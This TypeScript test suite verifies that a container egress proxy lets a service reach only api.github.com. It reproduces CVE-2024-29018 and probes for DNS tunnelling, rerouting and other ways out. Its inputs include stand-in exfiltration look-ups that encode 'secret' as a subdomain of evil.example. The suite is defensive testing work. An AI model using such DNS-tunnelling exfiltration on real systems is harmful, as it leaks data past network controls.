/**
 * container/compose/egress, taken up by a real engine: a wrapper that must not phone home reaches the one API, and by no way
 * anything else. The engine is one that asks outside for a merely internal network, too (CVE-2024-29018), as the first test shows.
 */
import {cpSync, readFileSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {beforeAll, beforeEach, describe, expect, test} from 'vitest';
import {parse} from 'yaml';
import {z} from 'zod';
import {run} from '../../lab/commands.ts';
import {images} from '../../lab/engine/images.ts';
import {waitUntil} from '../../lab/processes.ts';
import {nodeExecutable, repositoryFolder} from '../../lab/program.ts';
import {reportSchema} from '../../src/audit/report-schema.ts';
import {standFor} from '../helpers/engine-acts.ts';
import {engineStage} from '../helpers/engine-stage.ts';
import {namedHosts, standNames, type NamedWorld} from '../helpers/named-world.ts';

const stage = engineStage({resolvConf: 'nameserver 127.0.0.1\n'});
const {api, other, wild} = namedHosts;
/** The shipped overlay's resolver. */
const quad = '9.9.9.9';
/** Something that tells itself by a name. */
const secret = '736563726574';
const zone = {'api.github.com': [api], 'second.example': [wild], 'example.com': [other], [`${secret}.evil.example`]: [other]};
/** What is said to somebody who is never answered. */
const unheard = /^(?:EHOSTUNREACH|ENETUNREACH|ECONNREFUSED|ETIMEOUT|ENOTFOUND|ESERVFAIL|EAI_AGAIN|ECONNRESET|EADDRNOTAVAIL|silence|closed|sent)$/;
const lineSchema = z.object({verdict: z.enum(['allowed', 'refused']), name: z.string(), port: z.number(), to: z.string(), status: z.number()});

describe('container/compose/egress', () => {
	let names: NamedWorld;
	let folder: string;

	beforeAll(async () => {
		const {lab} = stage();
		names = await standNames(lab, zone);
		await lab.exec('isp', ['ip', 'route', 'add', `${quad}/32`, 'via', lab.description.addresses.internet.ipv4], {mustSucceed: true});
		await lab.exec('internet', ['nft', `table ip quad { chain at { type nat hook prerouting priority -100; ip daddr ${quad} dnat to ${namedHosts.resolver}; }; }`], {mustSucceed: true});
		lab.spawn('client', [nodeExecutable(), '--disable-warning=ExperimentalWarning', join(repositoryFolder, 'test/helpers/forward-dns.ts'), namedHosts.resolver], {name: 'forward-dns'});
	});

	beforeEach(async () => {
		await standFor(stage().engine, 'curlimages/curl:latest');
		folder = join(stage().project, 'egress');
		cpSync(join(repositoryFolder, 'container/compose/egress'), folder, {recursive: true});
		// What only a lab needs: something that sends all the time in the wrapper's place, and a program that says one thing.
		const lab = {services: {wrapper: {command: ['node', '/application.mjs'], volumes: [`${join(repositoryFolder, 'test/helpers/speak.ts')}:/speak.ts:ro`], mem_limit: '512m', pids_limit: 200}}};
		writeFileSync(join(folder, 'lab.yaml'), JSON.stringify(lab));
	});

	async function compose(files: readonly string[], ...argv: readonly string[]): Promise<void> {
		await run(['docker-compose', '--project-name', 'lab', ...[...files, 'lab.yaml'].flatMap(name => ['--file', name]), ...argv], {folder, environment: stage().engine.environment});
	}
	/** By the image, as docs/egress.md has it. */
	async function overlay(...options: readonly string[]): Promise<void> {
		const {stdout} = await stage().engine.docker(['run', '--rm', '--volume', `${folder}:/work:ro`, '--workdir', '/work', '--entrypoint', 'vks', images.vks, 'egress', 'compose', 'compose.yaml', ...options]);
		writeFileSync(join(folder, 'docker-compose.egress.yaml'), `${stdout}\n`);
	}
	const speakIn = async (container: string, ...words: readonly string[]): Promise<string> =>
		(await stage().engine.docker(['exec', container, 'node', '--disable-warning=ExperimentalWarning', '/speak.ts', ...words], {mustSucceed: false})).stdout.trim().replace(/^closed\n\w+$/, 'closed');
	const speak = (...words: readonly string[]): Promise<string> => speakIn('lab_wrapper_1', ...words);
	/** Once more where a busy machine was late. */
	const hears = (said: string, ...words: readonly string[]): Promise<boolean> => waitUntil(async () => (await speak(...words)).includes(said));
	const inspect = async (what: string, format: string): Promise<string> => (await stage().engine.docker(['inspect', '--format', format, what])).stdout.trim();
	const proxyAddress = (): Promise<string> => inspect('lab_egress-proxy_1', '{{(index .NetworkSettings.Networks "lab_egress").IPAddress}}');
	const gatewayOf = (network: string): Promise<string> => inspect(network, '{{(index .IPAM.Config 0).Gateway}}');
	async function logged(): Promise<readonly z.infer<typeof lineSchema>[]> {
		const {stdout} = await stage().engine.docker(['logs', 'lab_egress-proxy_1']);
		return stdout.split('\n').filter(Boolean).map(line => lineSchema.parse(JSON.parse(line)));
	}
	const refusedAs = async (name: string): Promise<number> => (await logged()).filter(line => line.verdict === 'refused' && line.name === name).length;
	/** The engine copies what a container says a moment later. */
	const logsRefusals = async (name: string, least: number): Promise<number> => {
		await waitUntil(async () => (await refusedAs(name)) >= least);
		return refusedAs(name);
	};
	const destinations = async (since: Awaited<ReturnType<ReturnType<typeof stage>['witness']['mark']>>): Promise<readonly string[]> =>
		[...new Set((await stage().witness.since(since)).outside.samples.map(({dst, protocol, port}) => `${protocol} ${dst} ${port}`))].toSorted();
	const askedFor = (word: string): boolean => names.asked().includes(word);

	test('the witness sees what leaves: all of it without the overlay, look-ups from a network that is merely internal', async () => {
		const began = await stage().witness.mark();
		await compose(['compose.yaml'], 'up', '--detach');
		expect(await hears(other, 'tls', other, '443', 'example.com')).toBe(true);
		expect(await speak('udp', other, '443')).toBe('sent');
		const all = [`tcp ${other} 443`, `udp ${other} 443`, 'udp 203.0.113.80 7'];
		expect(await waitUntil(async () => (await destinations(began)).filter(each => all.includes(each)).length === all.length)).toBe(true);

		await stage().engine.docker(['network', 'create', '--internal', 'merely']);
		await stage().engine.docker(['run', '--detach', '--name', 'seed', '--network', 'merely', '--volume', `${join(repositoryFolder, 'test/helpers/speak.ts')}:/speak.ts:ro`, images.application]);
		expect(await speakIn('seed', 'tls', other, '443', 'example.com')).toMatch(unheard);
		expect(await waitUntil(async () => (await speakIn('seed', 'ask', '127.0.0.11', `${secret}.evil.example`)) === JSON.stringify([other]))).toBe(true);
		expect(await waitUntil(async () => (await speakIn('seed', 'ask', await gatewayOf('merely'), `${secret}.evil.example`)) === JSON.stringify([other]))).toBe(true);
		expect(askedFor(secret)).toBe(true);
	});

	test('the API is reached, and nothing else is, by any way', async () => {
		const before = names.asked();
		const began = await stage().witness.mark();
		await compose(['compose.yaml', 'docker-compose.egress.yaml'], 'up', '--detach');
		expect(await hears(`${api} api.github.com`, 'tls', 'api.github.com', '443', 'api.github.com')).toBe(true);
		const proxy = await proxyAddress();

		expect(await speak('tls', 'example.com', '443', 'example.com'), 'another name').toMatch(unheard);
		for (const name of ['example.com', `${secret}.api.github.com`]) {
			expect(await speak('tls', proxy, '443', name), name).toMatch(unheard);
			expect(await logsRefusals(name, 1), name).toBe(1);
		}
		expect(await speak('tls', proxy, '443'), 'no name').toMatch(unheard);
		expect(await speak('http', proxy, '443', 'api.github.com'), 'no TLS').toMatch(unheard);
		expect(await logsRefusals('', 2)).toBe(2);
		const tried: ReadonlyArray<readonly string[]> = [
			['tls', api, '443', 'api.github.com'], ['tls', other, '443'], ['tls', stage().lab.description.addresses.internet.ipv6, '443', 'api.github.com'],
			['tls', proxy, '8443', 'api.github.com'], ['http', proxy, '80', 'api.github.com'], ['udp', proxy, '443'], ['udp', api, '443'],
			['ask', quad, 'api.github.com'], ['ask', proxy, 'api.github.com'], ['ask', await gatewayOf('lab_egress'), `${secret}.evil.example`],
			['ask', '127.0.0.11', `${secret}.evil.example`], ['ask', '127.0.0.11', `${secret}.api.github.com`], ['ask', '127.0.0.11', `${secret}.evil.example`, 'TXT'],
			['ask', '127.0.0.1', `${secret}.evil.example`], ['tls', quad, '853', 'dns.quad9.net'],
		];
		// Each waits for nobody's answer, and none for another.
		for (let from = 0; from < tried.length; from += 5) {
			await Promise.all(tried.slice(from, from + 5).map(async words => expect(await speak(...words), words.join(' ')).toMatch(unheard)));
		}

		expect(await destinations(began)).toEqual([`tcp ${api} 443`, `udp ${quad} 53`]);
		expect([...new Set(names.asked().slice(before.length).split('\n').filter(Boolean))]).toEqual(['api.github.com']);
		const isAllowed = async (): Promise<readonly string[]> => [...new Set((await logged()).filter(({verdict}) => verdict === 'allowed').map(({name, to, status}) => `${name} ${to} ${status}`))];
		expect(await waitUntil(async () => (await isAllowed()).length > 0)).toBe(true);
		expect(await isAllowed()).toEqual([`api.github.com ${api}:443 200`]);
	});

	test('the proxy may nothing: no root, no capability, nothing to write, no way through it; to the engine the name is itself', async () => {
		await compose(['compose.yaml', 'docker-compose.egress.yaml'], 'up', '--detach');
		const exec = async (...argv: readonly string[]): Promise<string> => (await stage().engine.docker(['exec', 'lab_egress-proxy_1', ...argv], {mustSucceed: false})).stdout.trim();
		expect(await exec('sh', '-c', 'id -u; grep -h -e CapEff -e CapBnd -e NoNewPrivs /proc/1/status; cat /proc/sys/net/ipv4/ip_forward; touch /etc/x /usr/x /run/x || echo closed')).toBe(
			['64530', 'CapEff:\t0000000000000000', 'CapBnd:\t0000000000000000', 'NoNewPrivs:\t1', '0', 'closed'].join('\n'),
		);
		expect(await exec('getent', 'ahostsv4', 'api.github.com')).toContain(await proxyAddress());
		expect(await inspect('lab_egress-proxy_1', '{{.State.Health.Status}}')).toBe('healthy');

		const socket = (stage().engine.environment['DOCKER_HOST'] ?? '').replace('unix://', '');
		const audited = await run([...stage().lab.description.commands.vks, 'audit', '--json', '--docker', socket], {mustSucceed: false});
		const report = reportSchema.parse(JSON.parse(audited.stdout));
		expect(report.looked.join()).toContain('(2 running)');
		expect(report.findings.filter(({severity, what}) => severity !== 'low' && what.includes('lab_'))).toEqual([]);

		// Who became able to make routes still finds no router.
		await stage().lab.exec('client', ['nsenter', `--net=/proc/${await stage().pidOf('lab_wrapper_1')}/ns/net`, 'ip', 'route', 'replace', 'default', 'via', await proxyAddress()], {mustSucceed: true});
		const began = await stage().witness.mark();
		expect(await speak('tls', other, '443', 'example.com')).toMatch(unheard);
		expect(await destinations(began)).toEqual([]);
	});

	test('without the proxy nothing is reached, and nothing leaves', async () => {
		await compose(['compose.yaml', 'docker-compose.egress.yaml'], 'up', '--detach');
		const proxy = await proxyAddress();
		await stage().engine.docker(['update', '--restart', 'no', 'lab_egress-proxy_1']);
		await stage().engine.docker(['kill', 'lab_egress-proxy_1']);
		const began = await stage().witness.mark();
		for (const host of ['api.github.com', proxy]) expect(await speak('tls', host, '443', 'api.github.com')).toMatch(unheard);
		expect(await destinations(began)).toEqual([]);
	});

	test('what is written anew is in force once it is taken up: other names, plain HTTP by its host, each to its own', async () => {
		await compose(['compose.yaml', 'docker-compose.egress.yaml'], 'up', '--detach');
		expect(await speak('tls', 'second.example', '443', 'second.example')).toMatch(unheard);
		await overlay('--service', 'wrapper', '--allow', 'second.example 80 443', '--resolver', namedHosts.resolver);
		await compose(['compose.yaml', 'docker-compose.egress.yaml'], 'up', '--detach');
		const began = await stage().witness.mark();
		expect(await hears(`${wild} second.example`, 'tls', 'second.example', '443', 'second.example')).toBe(true);
		expect(await speak('tls', await proxyAddress(), '443', 'api.github.com')).toMatch(unheard);
		expect(await logsRefusals('api.github.com', 1)).toBe(1);
		expect(await waitUntil(async () => {
			const forged = await speak('http', 'second.example', '80', 'second.example', 'example.com');
			return forged.includes(`${wild} second.example`) && forged.includes('403 Forbidden');
		})).toBe(true);
		expect(await waitUntil(async () => (await refusedAs('example.com')) > 0)).toBe(true);
		expect(await destinations(began)).toEqual([`tcp ${wild} 443`, `tcp ${wild} 80`, `udp ${namedHosts.resolver} 53`].toSorted());
	});

	test('who is put beside reaches them, is reached by them, and keeps its own way out and its published port', async () => {
		const {services, ...rest} = z.looseObject({services: z.record(z.string(), z.unknown())}).parse(parse(readFileSync(join(folder, 'compose.yaml'), 'utf8')));
		writeFileSync(join(folder, 'compose.yaml'), JSON.stringify({...rest, services: {...services, front: {image: images.application, ports: ['127.0.0.1:8080:8080']}}}));
		await overlay('--service', 'wrapper', '--beside', 'front', '--allow', 'api.github.com', '--resolver', quad);
		await compose(['compose.yaml', 'docker-compose.egress.yaml'], 'up', '--detach');
		await stage().until('its page answers, and it is answered outside', ({echoes}) => echoes > 0);
		expect(await hears('"echoes":', 'http', 'front', '8080', 'front')).toBe(true);
		expect(await hears(`${api} api.github.com`, 'tls', 'api.github.com', '443', 'api.github.com')).toBe(true);
		const began = await stage().witness.mark();
		expect(await speak('tls', other, '443', 'example.com')).toMatch(unheard);
		expect(await speak('ask', '127.0.0.11', `${secret}.evil.example`)).toMatch(unheard);
		expect(await destinations(began)).not.toContain(`tcp ${other} 443`);
	});
});
